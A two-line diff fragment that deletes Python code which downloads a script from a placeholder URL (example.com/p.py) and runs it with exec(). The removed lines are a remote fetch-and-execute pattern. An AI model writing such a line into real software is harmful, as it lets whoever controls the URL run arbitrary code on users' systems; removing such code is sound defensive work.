@@ -1,2 +1,0 @@
-import urllib.request
-exec(urllib.request.urlopen("http://example.com/p.py").read())
